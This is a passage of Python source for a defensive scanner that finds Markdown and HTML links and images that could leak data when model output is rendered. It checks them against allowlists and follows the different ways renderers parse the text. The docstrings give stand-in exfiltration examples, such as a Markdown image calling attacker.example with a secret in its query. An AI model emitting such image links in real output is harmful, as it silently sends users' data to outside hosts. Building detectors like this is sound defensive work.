"""Links and images in Markdown, HTML and plain text, judged against host and scheme allowlists.

A Markdown image (``![x](https://attacker.example/?q=<secret>)``) makes the reader's browser send
its URL the moment it renders, so model output can leak what the model saw without a click. The
scanner here finds every link and image form a Markdown renderer turns into a request, in every
way the common renderers read the text (they disagree on code spans, raw HTML and loose syntax),
and the rules decide which of them may stay. :class:`Links` reports the bad ones; ``SafeMarkdown`` reuses
the same scanner to rewrite them.
"""

from __future__ import annotations

import functools
import re
import unicodedata
from bisect import bisect_left, bisect_right
from collections.abc import Iterable, Sequence
from typing import NamedTuple

from guardkit._errors import ConfigError
from guardkit._types import Action, Finding

__all__ = ["Links"]

#: Longest URL (and longest construct) judged; longer ones are flagged, so a stream that holds back
#: this many characters never releases part of a link before it is judged.
DEFAULT_MAX_LENGTH = 2048

#: Schemes whose URLs have a host (WHATWG "special" schemes, which also accept backslashes).
_SPECIAL = frozenset(("http", "https", "ftp", "ws", "wss", "file"))
_FETCH_SCHEMES = frozenset(("http", "https"))

_TITLE_CLOSE = {'"': '"', "'": "'", "(": ")"}
#: Controls, spaces and default-ignorable characters: browsers drop or reject them in hosts.
_IGNORABLE_CHARS = (
    "[\x00-\x20\x7f-\xa0\xad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f"
    "\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164\ufe00-\ufe0f\ufeff\uffa0\ufff0-\ufffb]"
)
_TRAILING = "?!.,:;*_~"
_C0_SPACE = "".join(chr(c) for c in range(33))
_DOTS = str.maketrans({"\u3002": ".", "\uff0e": ".", "\uff61": "."})

_WS: re.Pattern[str]
_ANGLE_BODY: re.Pattern[str]
_RAW_DEST: re.Pattern[str]
_RAW_DEST_OPEN_PAREN: re.Pattern[str]
_BRACKETS: re.Pattern[str]
_LABEL: re.Pattern[str]
_DEFINITION: re.Pattern[str]
_AUTOLINK: re.Pattern[str]
_TAG_NAME: re.Pattern[str]
_TAG_SPACE: re.Pattern[str]
_ATTR_NAME: re.Pattern[str]
_SPACES: re.Pattern[str]
_UNQUOTED: re.Pattern[str]
_CSS_URL: re.Pattern[str]
_META_URL: re.Pattern[str]
_BARE: re.Pattern[str]
_WWW: re.Pattern[str]
_CSS_URL_BEFORE: re.Pattern[str]
_SCHEME: re.Pattern[str]
_TAB_NL: re.Pattern[str]
_PERCENT_RUN: re.Pattern[str]
_IGNORABLE: re.Pattern[str]
_IPV4_PART: re.Pattern[str]
_HEX_RUN: re.Pattern[str]
_B64_RUN: re.Pattern[str]
_QUERY_SPLIT: re.Pattern[str]
_ESCAPABLE: re.Pattern[str]
_NESTED_URL: re.Pattern[str]
_TITLE_BODY: dict[str, re.Pattern[str]]
_BLANK_LINE: re.Pattern[str]
_LAX_DEST: re.Pattern[str]
_AUTOLINK_LAX: re.Pattern[str]
_CSS_STRING: re.Pattern[str]
_CSS_ESCAPE: re.Pattern[str]
_STYLE_END: re.Pattern[str]
_PROTOCOL_RELATIVE: re.Pattern[str]
_PYMD_ESCAPABLE: re.Pattern[str]
_STRUCTURAL_PERCENT: re.Pattern[str]
_HOSTFUL: re.Pattern[str]
_MARKS: re.Pattern[str]
_BARE_REST: re.Pattern[str]
_RAW_BLOCK_END: re.Pattern[str]
_READY = False


def _compile() -> None:  # noqa: PLR0915 - one statement per pattern
    """Compile the patterns once, on first use: about 4 ms that ``import guardkit`` does not pay."""
    global _WS, _ANGLE_BODY, _RAW_DEST, _RAW_DEST_OPEN_PAREN, _BRACKETS, _LABEL  # noqa: PLW0603
    global _DEFINITION, _AUTOLINK, _TAG_NAME, _TAG_SPACE, _ATTR_NAME, _SPACES  # noqa: PLW0603
    global _UNQUOTED, _CSS_URL, _META_URL, _BARE, _WWW, _CSS_URL_BEFORE, _SCHEME  # noqa: PLW0603
    global _TAB_NL, _PERCENT_RUN, _IGNORABLE, _IPV4_PART, _HEX_RUN, _B64_RUN  # noqa: PLW0603
    global _QUERY_SPLIT, _ESCAPABLE, _NESTED_URL, _TITLE_BODY, _READY  # noqa: PLW0603
    global _BLANK_LINE, _LAX_DEST, _AUTOLINK_LAX, _CSS_STRING  # noqa: PLW0603
    global _CSS_ESCAPE, _STYLE_END, _PROTOCOL_RELATIVE, _PYMD_ESCAPABLE  # noqa: PLW0603
    global _STRUCTURAL_PERCENT, _HOSTFUL, _MARKS, _BARE_REST, _RAW_BLOCK_END  # noqa: PLW0603
    if _READY:
        return
    # Inline link tail after "](": destination then optional title. Every alternation below starts
    # with a distinct character, so matching is linear.
    _WS = re.compile(r"[ \t]*(?:\n[ \t]*)?")
    _ANGLE_BODY = re.compile(r"(?:[^<>\n\\]|\\.)*")
    _RAW_DEST = re.compile(r"(?:[^\s()\\]|\\.|\((?:[^\s()\\]|\\.)*\))*")
    _RAW_DEST_OPEN_PAREN = re.compile(r"\((?:[^\s()\\]|\\.)*\\?\Z")
    _TITLE_BODY = {
        '"': re.compile(r'(?:[^"\\]|\\[\s\S])*'),
        "'": re.compile(r"(?:[^'\\]|\\[\s\S])*"),
        "(": re.compile(r"(?:[^()\\]|\\[\s\S])*"),
    }
    _BRACKETS = re.compile(r"\\[\s\S]|[\[\]]")
    _LABEL = re.compile(r"\[((?:[^\[\]\\]|\\.){0,999})\]")
    _BLANK_LINE = re.compile(r"\n[ \t]*\n")
    _MARKS = re.compile(r"[`<]")
    # Python-Markdown reads "(...)" after "]" loosely (spaces and all): its destination starts here.
    _LAX_DEST = re.compile(r"\s*([^\s)]+)")

    # Reference definitions, also inside block quotes and list items: "[label]: url". Labels may
    # span lines; "<url" without its ">" is a destination for Python-Markdown.
    _DEFINITION = re.compile(
        r"^[ \t>*+\-\d.)]{0,40}?\[(?P<label>(?:[^\[\]\\]|\\[\s\S]){1,999})\]:[ \t]*"
        r"(?:\n[ \t>]*)?(?P<url><[^<>\n]*>|\S+)",
        re.MULTILINE,
    )

    # "<scheme:...>" autolinks, complete or still open at the end of the text, and the
    # "<scheme://...>" form Python-Markdown also accepts with spaces in it.
    _AUTOLINK = re.compile(r"<([A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\s<>]*)(>?)")
    _AUTOLINK_LAX = re.compile(r"<([A-Za-z][A-Za-z0-9+.\-]*://[^<>]*)>")
    _CSS_STRING = re.compile(r""""((?:[^"\\\n]|\\[\s\S])*)"|'((?:[^'\\\n]|\\[\s\S])*)'""")
    _CSS_ESCAPE = re.compile(r"\\(?:([0-9A-Fa-f]{1,6})[ \t\n\r\f]?|([\s\S]))")
    _STYLE_END = re.compile(r"</style", re.IGNORECASE)
    blocks = "|".join(sorted(_RAW_BLOCK_TAGS, key=len, reverse=True))
    _RAW_BLOCK_END = re.compile(rf"</(?:{blocks})[\s/]*>", re.IGNORECASE)
    _TAG_NAME = re.compile(r"<([A-Za-z][^\s/>\x00]*)")
    _TAG_SPACE = re.compile(r"[\s/]*")
    _ATTR_NAME = re.compile(r"[^\s/>][^\s/>=]*")
    _SPACES = re.compile(r"\s*")
    _UNQUOTED = re.compile(r"[^\s>]*")
    # Not after a letter, digit, "_" or "-" ("my-url(" is another function), but after "<!--",
    # which CSS reads as a token of its own.
    _CSS_URL = re.compile(r"""(?:(?<![\w-])|(?<=<!--))url\(\s*(["']?)([^"')\s]*)""", re.IGNORECASE)
    _HOSTFUL = re.compile(r"[\x00-\x20]*(?:[A-Za-z][A-Za-z0-9+.\-]*:|[/\\][\t\n\r]*[/\\])")
    _META_URL = re.compile(r"url\s*=\s*['\"]?([^'\"\s;]+)", re.IGNORECASE)

    # Bare URLs as GFM and linkify turn them into links: http(s)/ftp URLs and "www." hosts.
    _BARE = re.compile(r"(?<![A-Za-z0-9])(?:(?:https?|ftp)://|www\.)[^\s<>\"'`\]]{0,4200}", re.IGNORECASE)
    _WWW = re.compile(r"www\.", re.IGNORECASE)
    _BARE_REST = re.compile(r"[^\s<>\"'`\]]{0,4200}")
    # "//host/..." as linkify reads it: a protocol-relative link to a dotted host (or localhost).
    _PROTOCOL_RELATIVE = re.compile(
        r"//(?:[^\s/\\?#@<>\"'`\[\]]+@)?(?:localhost|[^\W_][\w\-]*(?:\.[\w\-]+)+)",
        re.IGNORECASE,
    )
    _CSS_URL_BEFORE = re.compile(r"(?:(?<![\w-])|(?<=<!--))url\(\s*[\"']?\Z", re.IGNORECASE)

    _SCHEME = re.compile(r"([A-Za-z][A-Za-z0-9+.\-]*):")
    _TAB_NL = re.compile(r"[\t\n\r]")
    _PERCENT_RUN = re.compile(r"(?:%[0-9A-Fa-f]{2})+")
    _IGNORABLE = re.compile(_IGNORABLE_CHARS)
    _IPV4_PART = re.compile(r"0x[0-9a-f]*|\d+", re.IGNORECASE)
    _HEX_RUN = re.compile(r"[0-9A-Fa-f]+")
    _B64_RUN = re.compile(r"[A-Za-z0-9+/_\-]+=*")
    _QUERY_SPLIT = re.compile(r"[&;]")
    _ESCAPABLE = re.compile(r"\\([!-/:-@\[-`{-~])")
    _PYMD_ESCAPABLE = re.compile(r"\\([\\`*_{}\[\]()>#+\-.!])")
    _STRUCTURAL_PERCENT = re.compile(r"%(?:2[Ff]|5[Cc]|3[Aa])")
    _NESTED_URL = re.compile(r"(?:[a-z][a-z0-9+.\-]*:)?//", re.IGNORECASE)
    _READY = True


# fmt: off
# HTML attributes that carry URLs, and which of them the browser fetches without a click.
_URL_ATTRS = frozenset(
    (
        "href", "src", "srcset", "poster", "background", "action", "formaction", "data",
        "xlink:href", "lowsrc", "dynsrc", "ping", "manifest", "codebase", "archive", "icon",
        "longdesc", "cite", "style", "content", "imagesrcset",
    )
)
_URL_ATTR_NAMES = tuple(sorted(_URL_ATTRS))
_LINK_ATTRS = frozenset(("href", "action", "formaction", "cite", "longdesc", "ping"))
_FETCH_HREF_TAGS = frozenset(("link", "image", "use", "feimage", "base", "script"))
_FETCH_TAGS = frozenset(
    (
        "img", "image", "picture", "source", "video", "audio", "track", "input", "embed",
        "object", "iframe", "frame", "link", "meta", "script", "style", "body", "table", "td",
        "th", "svg", "use", "feimage", "base",
    )
)

_URL_TAGS = _FETCH_TAGS | frozenset(("a", "area", "form", "button", "blockquote", "q", "del", "ins"))

#: Elements that Python-Markdown lifts out of a line as raw HTML (as it does comments,
#: declarations and processing instructions), joining the text on either side of them.
_RAW_BLOCK_TAGS = frozenset(
    (
        "address", "article", "aside", "blockquote", "details", "div", "dl", "fieldset",
        "figcaption", "figure", "footer", "form", "h1", "h2", "h3", "h4", "h5", "h6", "header",
        "hgroup", "hr", "main", "menu", "nav", "ol", "p", "pre", "section", "table", "ul",
        "canvas", "colgroup", "dd", "body", "dt", "group", "html", "iframe", "li", "legend",
        "math", "map", "noscript", "output", "object", "option", "progress", "script", "style",
        "summary", "tbody", "td", "textarea", "tfoot", "th", "thead", "tr", "video", "center",
    )
)
# fmt: on

# Scripts that may share a host name (UTS #39 "highly restrictive" combinations).
_SCRIPT_SETS = (
    frozenset(("LATIN", "CJK", "HIRAGANA", "KATAKANA")),
    frozenset(("LATIN", "CJK", "BOPOMOFO")),
    frozenset(("LATIN", "CJK", "HANGUL")),
)


class _Hit:
    """One link-like construct found in the text (internal)."""

    __slots__ = (
        "children",
        "cover_end",
        "deep",
        "end",
        "fetch",
        "form",
        "label",
        "label_end",
        "note",
        "partial",
        "reasons",
        "start",
        "text_end",
        "text_start",
        "trigger",
        "urls",
    )

    def __init__(
        self,
        form: str,
        start: int,
        end: int,
        urls: tuple[str, ...],
        *,
        fetch: bool,
        partial: bool = False,
        text_span: tuple[int, int] = (-1, -1),
        label: str | None = None,
    ) -> None:
        self.form = form
        self.start = start
        self.end = end
        self.urls = urls
        self.fetch = fetch
        self.partial = partial
        self.text_start, self.text_end = text_span
        self.label = label
        self.label_end = -1
        self.reasons: tuple[str, ...] = ()
        self.children: list[_Hit] = []
        self.deep = False
        #: Where the markup that hides bare URLs ends, when not at ``end``.
        self.cover_end = -1
        #: A reason known at scan time (an HTML tag whose end could not be found).
        self.note: str | None = None
        #: Where one character, replaced, unmakes the construct whatever surrounds it: the "<" of
        #: a tag or autolink, the "(" after "]", the "[" of a definition or reference image.
        self.trigger: tuple[int, str] | None = None


class _Usage(NamedTuple):
    """A reference-style use of a definition: ``[text][label]``, ``![alt][label]`` or ``[label]``."""

    label: str
    start: int
    end: int
    text_start: int
    text_end: int
    image: bool


def _normalize_label(label: str) -> str:
    """A label as CommonMark matches it: case-folded, inner whitespace collapsed. Continuation
    lines lose the block-quote markers and indentation they carry in the source."""
    if "\n" in label:
        label = "\n".join(line.lstrip(" \t>") for line in label.split("\n"))
    return " ".join(label.split()).casefold()


def _loose_label(label: str) -> str:
    """A looser form of a normalized label (compatibility forms, letters and digits only): two
    labels renderers might match, though their normal forms differ, compare equal."""
    return "".join(c for c in unicodedata.normalize("NFKC", label).casefold() if c.isalnum())


def _decode_entities(text: str) -> str:
    if "&" not in text:
        return text
    import html

    return html.unescape(text)


def _unescape_md(url: str) -> str:
    """Undo Markdown backslash escapes and character references in a link destination."""
    if "\\" in url:
        url = _ESCAPABLE.sub(r"\1", url)
    return _decode_entities(url)


def _percent_decode(text: str) -> str:
    def decode(m: re.Match[str]) -> str:
        return bytes.fromhex(m.group().replace("%", "")).decode("utf-8", "replace")

    return _PERCENT_RUN.sub(decode, text)


def _url_variants(raw: str, *, markdown: bool) -> list[str]:
    """Every URL a renderer and browser may read from *raw*, to be judged one by one.

    CommonMark undoes backslash escapes of any punctuation, Python-Markdown of a few characters
    only (it keeps ``\\/``, which a browser reads as ``//``), some renderers none; browsers decode
    character references, and a percent-encoded ``/``, ``\\`` or ``:`` is decoded as well so no
    encoded form of a scheme or host separator passes as a relative URL.
    """
    found = [raw]
    if markdown and "\\" in raw:
        found.append(_ESCAPABLE.sub(r"\1", raw))
        found.append(_PYMD_ESCAPABLE.sub(r"\1", raw))
    if "&" in raw:
        found.extend([_decode_entities(url) for url in found])
    if "%" in raw:
        found.extend([_STRUCTURAL_PERCENT.sub(_percent_char, url) for url in found])
    return list(dict.fromkeys(found)) if len(found) > 1 else found


def _percent_char(m: re.Match[str]) -> str:
    return chr(int(m.group()[1:], 16))


def _css_unescape(value: str) -> str:
    """Undo CSS escapes (``\\2f``, ``\\/``) as a browser does before it loads a URL."""
    if "\\" not in value:
        return value

    def one(m: re.Match[str]) -> str:
        if m.group(1) is None:
            return m.group(2) if m.group(2) not in "\n\r\f" else ""
        code = int(m.group(1), 16)
        return chr(code) if 0 < code <= 0x10FFFF and not 0xD800 <= code <= 0xDFFF else "\ufffd"

    return _CSS_ESCAPE.sub(one, value)


def _css_urls(css: str) -> list[str]:
    """URLs that style text makes a browser load: ``url(...)``, and quoted strings that name a
    host (``image-set("//host/a.png" 1x)``, ``@import "//host/a.css"``). Escaped ones come back
    both as written and unescaped."""
    found = []
    for m in _CSS_URL.finditer(css):
        found.append(m.group(2))
        if "\\" in m.group(2):
            found.append(_css_unescape(m.group(2)))
    if '"' in css or "'" in css:
        for m in _CSS_STRING.finditer(css):
            string = m.group(1) if m.group(1) is not None else m.group(2)
            for value in (string, _css_unescape(string)):
                if _HOSTFUL.match(value):
                    found.append(value)
    return found


# --------------------------------------------------------------------------------------------
# Scanning
# --------------------------------------------------------------------------------------------


def _inline_tail(text: str, pos: int) -> tuple[int, str, bool] | None:
    """Parse ``dest "title")`` starting at *pos* (just after ``](``).

    Returns ``(end, raw_destination, partial)`` or ``None`` when this is not an inline link.
    ``partial`` means the text ended before the construct closed.
    """
    n = len(text)
    pos = _WS.match(text, pos).end()  # type: ignore[union-attr]
    if pos >= n:
        return n, "", True
    if text[pos] == "<":
        q = _ANGLE_BODY.match(text, pos + 1).end()  # type: ignore[union-attr]
        if q >= n or (q == n - 1 and text[q] == "\\"):
            return n, text[pos + 1 : q], True
        if text[q] != ">":
            return None
        dest = text[pos + 1 : q]
        pos = q + 1
    else:
        q = _RAW_DEST.match(text, pos).end()  # type: ignore[union-attr]
        if q >= n:
            return n, text[pos:q], True
        c = text[q]
        if (c == "(" and _RAW_DEST_OPEN_PAREN.match(text, q)) or (c == "\\" and q == n - 1):
            return n, text[pos:n], True
        dest = text[pos:q]
        pos = q
    after = _WS.match(text, pos).end()  # type: ignore[union-attr]
    if after >= n:
        return n, dest, True
    c = text[after]
    if c == ")":
        return after + 1, dest, False
    if after == pos or c not in _TITLE_BODY:
        return None
    q = _TITLE_BODY[c].match(text, after + 1).end()  # type: ignore[union-attr]
    if q >= n:
        return n, dest, True
    if text[q] != _TITLE_CLOSE[c]:
        return None
    pos = _WS.match(text, q + 1).end()  # type: ignore[union-attr]
    if pos >= n:
        return n, dest, True
    if text[pos] != ")":
        return None
    return pos + 1, dest, False


def _lax_tail(text: str, pos: int, window: int) -> tuple[int, str] | None:
    """Python-Markdown's reading of ``(...)`` after ``]`` where CommonMark sees no link.

    It takes everything up to a closing ``)`` as the destination, spaces included, so
    ``![x](https://evil.example/a b.png)`` is an image there. Returns the end and text of the
    destination's first word (which holds the scheme and host), or ``None`` when no ``)``
    follows in the paragraph.
    """
    limit = min(len(text), pos + window)
    close = text.find(")", pos, limit)
    if close < 0:
        return None
    m = _LAX_DEST.match(text, pos, close)
    if m is None or _BLANK_LINE.search(text, pos, close) is not None:
        return None
    return m.end(1), m.group(1)


def _may_hide(text: str, at: int, window: int) -> bool:
    """Whether a code span (a backtick before and after) or a tag or autolink (a "<" before, a
    ">" after) in the paragraph around *at* may contain it."""
    lo = max(0, at - window)
    hi = min(len(text), at + window)
    lo = max(lo, text.rfind("\n\n", lo, at))
    stop = text.find("\n\n", at, hi)
    hi = hi if stop < 0 else stop
    return (text.rfind("`", lo, at) >= 0 and text.find("`", at, hi) >= 0) or (
        text.rfind("<", lo, at) >= 0 and text.find(">", at, hi) >= 0
    )


def _cover(text: str, start: int, end: int) -> int:
    """Where a destination starting at *start* stops hiding bare URLs: after the URL a linkifier
    would read there, were the destination text (any other URL in it is judged on its own)."""
    if _BARE.match(text, start, end) is None and _PROTOCOL_RELATIVE.match(text, start, end) is None:
        return start + 1
    m = _BARE_REST.match(text, start, end)
    return max(start + 1, _linkify_end(text, start, m.end() if m is not None else start))


def _linkify_end(text: str, start: int, end: int) -> int:
    """Where a URL read from *start* to *end* may end for linkify: at its first "(", "[" or "{"
    (linkify takes them only in balanced pairs, GFM autolinking keeps them). URLs that start
    after it are looked for as well."""
    for bracket in "([{":
        i = text.find(bracket, start + 2, end)
        if i >= 0:
            end = i
    return end


def _skip_raw(text: str, pos: int, limit: int) -> int:
    """The end of a run of HTML at *pos* that Python-Markdown may lift out of the line (comments,
    declarations, processing instructions, block-level elements), or *pos* when there is none:
    ``![a]<!-- -->(u)`` can be an image of u there."""
    for _ in range(8):
        if not text.startswith("<", pos):
            break
        if text.startswith("<!--", pos):
            end = text.find("-->", pos + 4, limit)
            end = end + 3 if end >= 0 else -1
        elif text.startswith(("<?", "<!"), pos):
            end = text.find(">", pos + 2, limit)
            end = end + 1 if end >= 0 else -1
        else:
            m = _RAW_BLOCK_END.match(text, pos, limit)
            if m is not None:
                end = m.end()
            else:
                tm = _TAG_NAME.match(text, pos, limit)
                if tm is None or tm.group(1).lower() not in _RAW_BLOCK_TAGS:
                    break
                end = _read_tag(text, pos, limit)[2]
                if end >= 0:  # the element's content goes with it
                    m = _RAW_BLOCK_END.search(text, end, limit)
                    end = m.end() if m is not None else end
        if end < 0:
            break
        pos = end
    return pos


def _escaped(text: str, i: int) -> bool:
    """Whether the character at *i* is backslash-escaped (odd run of backslashes before it)."""
    j = i
    while j > 0 and text[j - 1] == "\\":
        j -= 1
    return (i - j) % 2 == 1


def _scan_brackets(  # noqa: PLR0915 - one pass over the brackets
    text: str, hits: list[_Hit], usages: list[_Usage], window: int
) -> bool:
    """Find inline links and images, and reference usages (``[t][r]``, ``![a][r]``, ``[r]``).

    Brackets pair as in CommonMark, except that the scan does not know where code spans, raw
    HTML and autolinks are, and a bracket inside one of them opens or closes nothing
    (``![x`]`](u)`` is an image of u). So where a backtick or ``<`` could hide a bracket, the scan
    keeps every opener the ``](`` could belong to in view, and the link is judged as an image when
    any of them is ``![``: an opener closed by a ``]`` with such a mark between them (a "ghost"),
    and an opener below a mark that may hide the openers above it.

    Returns whether an image may use a label the scan cannot tell; every reference definition
    is then judged as an image's.
    """
    # Open brackets: [position, is image, latest ghost above it, latest image ghost above it,
    # latest image opener at or below it].
    stack: list[list[int]] = []
    ghost = image_ghost = -1  # ghosts with no open bracket below them
    unsure_label = False
    marks: list[int] | None = None  # positions of "`" and "<", when needed
    blanks: list[int] | None = None  # positions of blank lines (paragraph breaks), when needed
    joined: set[int] | None = None  # "[" that "!<!-- -->[" makes an image opener
    first_mark = -2  # where the first "`" or "<" is (n when none), when needed
    pos = 0
    search = _BRACKETS.search
    n = len(text)
    while True:
        m = search(text, pos)
        if m is None:
            return unsure_label
        pos = m.end()
        token = m.group()
        if token == "[":
            at = m.start()
            bang = at > 0 and text[at - 1] == "!" and not _escaped(text, at - 1)
            if not bang and at > 0 and text[at - 1] == ">":
                if joined is None:
                    joined = set()
                    i = text.find("!<")
                    while i >= 0:
                        j = _skip_raw(text, i + 1, min(n, i + 1 + window))
                        if j > i + 1 and text.startswith("[", j):
                            joined.add(j)
                        i = text.find("!<", i + 2)
                bang = at in joined
            below = stack[-1][4] if stack else -1
            stack.append([at, int(bang), -1, -1, at if bang else below])
            continue
        if token != "]":
            continue
        close = m.start()
        if stack:
            opener, image, above, image_above, _ = stack.pop()
            if close - opener <= 256:
                marked = text.find("`", opener, close) >= 0 or text.find("<", opener, close) >= 0
            else:
                if marks is None:
                    marks = [k.start() for k in _MARKS.finditer(text)]
                k = bisect_right(marks, opener)
                marked = k < len(marks) and marks[k] < close
            if marked:
                # This "]" may lie in code or HTML: the opener, and any ghost above it, may
                # still be open.
                latest = max(opener, above)
                latest_image = max(opener if image else -1, image_above)
                if stack:
                    top = stack[-1]
                    top[2] = max(top[2], latest)
                    top[3] = max(top[3], latest_image)
                else:
                    ghost = max(ghost, latest)
                    image_ghost = max(image_ghost, latest_image)
            # A mark before the opener may hide it (and every opener after the mark): then this
            # "]" closes one below the mark, in the same paragraph.
            deep = -1
            if stack and stack[-1][4] >= 0:
                if marks is None:
                    marks = [k.start() for k in _MARKS.finditer(text)]
                k = bisect_left(marks, opener) - 1
                if k >= 0:
                    i = bisect_left(stack, marks[k], key=lambda entry: entry[0]) - 1
                    if i >= 0 and stack[i][4] >= 0:
                        if blanks is None:
                            blanks = [b.start() for b in _BLANK_LINE.finditer(text)]
                        b = bisect_left(blanks, close) - 1
                        if b < 0 or blanks[b] < stack[i][4]:
                            deep = stack[i][4]
            fetch = bool(image) or image_above >= 0 or deep >= 0
            guessed = fetch and not image
            from_ghost = False
            if deep >= 0:
                opener, image = deep, 1
        elif ghost >= 0:
            # Ghosts count in their own paragraph only: no link text continues past a blank line.
            if blanks is None:
                blanks = [b.start() for b in _BLANK_LINE.finditer(text)]
            b = bisect_left(blanks, close) - 1
            if b >= 0 and blanks[b] > ghost:
                ghost = image_ghost = -1
                continue
            if b >= 0 and blanks[b] > image_ghost:
                image_ghost = -1
            fetch = guessed = image_ghost >= 0
            opener, image = (image_ghost, 1) if fetch else (ghost, 0)
            from_ghost = True
        else:
            continue
        start = opener - 1 if image and text[opener - 1] == "!" else opener
        after = close + 1  # where "(" or "[" would continue the link
        if text.startswith("<", after):
            j = _skip_raw(text, after, min(n, after + window))
            if j > after and text.startswith(("(", "["), j):
                after = j
        nxt = text[after] if after < n else ""
        if nxt == "(":
            tail = _inline_tail(text, after + 1)
            lax = None if tail is not None else _lax_tail(text, after + 1, window)
            if lax is not None:
                tail = (lax[0], lax[1], False)
            if tail is not None:
                end, raw, partial = tail
                text_span = (opener + 1, close)
                if close - start > window // 2:
                    # Very long link text: judge the destination part only, so spans stay short.
                    start, text_span = close, (close, close)
                hit = _Hit(
                    "markdown image" if fetch else "markdown link",
                    start,
                    end,
                    (raw,),
                    fetch=fetch,
                    partial=partial,
                    text_span=text_span,
                )
                hit.trigger = (after, "\\(")
                hits.append(hit)
                if lax is not None or after > close + 1:
                    # For CommonMark this is text, in which links and URLs may follow.
                    at = text.find(raw, after + 1, end) if raw else -1
                    hit.cover_end = _cover(text, at, end) if at >= 0 else after + 1
                    pos = close + 1
                    continue
                if first_mark == -2:
                    first_mark = min(text.find("`") % (n + 1), text.find("<") % (n + 1))
                if first_mark < close and _may_hide(text, close, window):
                    # A code span or tag may hold the "](": then the destination is text.
                    at = text.find(raw, after + 1, end) if raw else -1
                    if at >= 0:
                        hit.cover_end = _cover(text, at, end)
                # Openers stay on the stack: "![a [b](c)](u)" is still an image of u.
                pos = end
                continue
        if guessed:
            unsure_label = True  # an image whose opener, and so its label, is a guess
        if from_ghost:
            continue  # no usage from a guessed opener: its label may be wrong
        if nxt == "[":
            lm = _LABEL.match(text, after)
            if lm is not None:
                label = lm.group(1) or text[opener + 1 : close]
                usages.append(
                    _Usage(_normalize_label(label), start, lm.end(), opener + 1, close, bool(image))
                )
                continue  # "[t]" may still open an inline link: "[x][t](u)"
        if nxt in (" ", "\t", "\n") and text.startswith("[", after + 1):
            # Python-Markdown allows one space between the parts: "![a] [r]" uses r.
            lm = _LABEL.match(text, after + 1)
            if lm is not None and lm.group(1):
                usages.append(
                    _Usage(_normalize_label(lm.group(1)), start, lm.end(), opener + 1, close, bool(image))
                )
        if nxt != ":" and close - opener <= 1000:
            label = text[opener + 1 : close]
            usages.append(_Usage(_normalize_label(label), start, close + 1, opener + 1, close, bool(image)))


def _scan_definitions(text: str, hits: list[_Hit]) -> None:
    if "]:" not in text:
        return
    for m in _DEFINITION.finditer(text):
        url = m.group("url")
        if url.startswith("<"):
            # "<url>" for CommonMark; Python-Markdown strips "<" and ">" from any destination.
            inner = url[1:-1]
            url = inner if url.endswith(">") and "<" not in inner else url.lstrip("<").rstrip(">")
        hit = _Hit(
            "reference definition",
            m.start("label") - 1,
            m.end("url"),
            (url,),
            fetch=False,
            label=_normalize_label(m.group("label")),
        )
        hit.label_end = m.end("label")
        hit.trigger = (hit.start, "\\[")
        # Whether this is a definition depends on the lines around it; if it is not, the line is
        # text, and URLs after the first one in it are links of their own.
        start = m.start("url") + (m.group("url")[0] == "<")
        hit.cover_end = _cover(text, start, hit.end)
        hits.append(hit)


def _tag_urls(tag: str, attrs: list[tuple[str, str]]) -> tuple[list[str], bool]:
    """The URLs a tag's attributes carry, and whether the browser fetches any of them unasked."""
    urls: list[str] = []
    fetch = False
    refresh = any(n == "http-equiv" and v.strip().lower() == "refresh" for n, v in attrs)
    for name, raw in attrs:
        if name not in _URL_ATTRS:
            continue
        value = _decode_entities(raw)
        if name == "style":
            found = _css_urls(value)
            urls.extend(found)
            fetch = fetch or bool(found)
        elif name == "content":
            if refresh:
                m = _META_URL.search(value)
                if m is not None:
                    urls.append(m.group(1))
                    fetch = True
        elif name in ("srcset", "imagesrcset"):
            for candidate in value.split(","):
                parts = candidate.split()
                if parts:
                    urls.append(parts[0])
            fetch = True
        else:
            urls.append(value)
            if name not in _LINK_ATTRS or tag in _FETCH_HREF_TAGS:
                fetch = True
    return urls, fetch


def _html_form(tag: str) -> str:
    """The form name of a tag for ``Finding.detail``: known names only, never text from the input."""
    return f"html {tag}" if tag in _URL_TAGS else "html tag"


def _read_tag(text: str, pos: int, limit: int) -> tuple[str, list[tuple[str, str]], int]:
    """Read the start tag at *pos* as a browser does, looking no further than *limit*.

    Returns the tag name, its attributes, and the index after its ``>`` (-1 when the tag is
    still open at *limit*).
    """
    m = _TAG_NAME.match(text, pos, limit)
    if m is None:  # pragma: no cover - the caller matched the name already
        return "", [], -1
    tag = m.group(1).lower()
    attrs: list[tuple[str, str]] = []
    q = m.end()
    while True:
        q = _TAG_SPACE.match(text, q, limit).end()  # type: ignore[union-attr]
        if q >= limit:
            return tag, attrs, -1
        if text[q] == ">":
            return tag, attrs, q + 1
        am = _ATTR_NAME.match(text, q, limit)
        if am is None:  # pragma: no cover - the class excludes only what was skipped
            q += 1
            continue
        name = am.group().lower()
        q = _SPACES.match(text, am.end(), limit).end()  # type: ignore[union-attr]
        value = ""
        if q < limit and text[q] == "=":
            q = _SPACES.match(text, q + 1, limit).end()  # type: ignore[union-attr]
            if q < limit and text[q] in "\"'":
                close = text.find(text[q], q + 1, limit)
                if close < 0:
                    attrs.append((name, text[q + 1 : limit]))
                    return tag, attrs, -1
                value = text[q + 1 : close]
                q = close + 1
            else:
                vm = _UNQUOTED.match(text, q, limit)
                value = vm.group()  # type: ignore[union-attr]
                q = vm.end()  # type: ignore[union-attr]
        attrs.append((name, value))


def _url_attr_hints(text: str) -> list[int]:
    """Where an attribute that may carry a URL is named before an "=" (any case, spaces between,
    as a browser reads it): tags without one after them carry no URL."""
    found = []
    i = text.find("=")
    while i >= 0:
        j = i
        while j > 0 and text[j - 1].isspace():
            j -= 1
        if text[max(0, j - 12) : j].lower().endswith(_URL_ATTR_NAMES):
            found.append(j)
        i = text.find("=", i + 1)
    return found


def _scan_angles(text: str, hits: list[_Hit], window: int) -> None:  # noqa: PLR0915
    """Find autolinks and HTML tags that carry URLs.

    Every ``<`` is read as the start of a tag, also inside comments, code spans and other tags'
    attribute values: whether a renderer passes a stretch through as HTML, and where a browser
    then ends a comment (``-->``, ``--!>``, ``<!-->``) or a quoted value, differs from one
    renderer to the next. Each tag is read from its own ``<``, as a browser would.
    """
    n = len(text)
    hints: list[int] | None = None  # where an attribute that can carry a URL is named
    budget = 4 * n + 4 * window  # characters read in tags; the rest is judged unread
    open_at_end = False
    pos = text.find("<")
    while pos >= 0:
        following = text.find("<", pos + 1)
        m = _AUTOLINK.match(text, pos)
        if m is not None:
            if m.group(2) or m.end() == n:
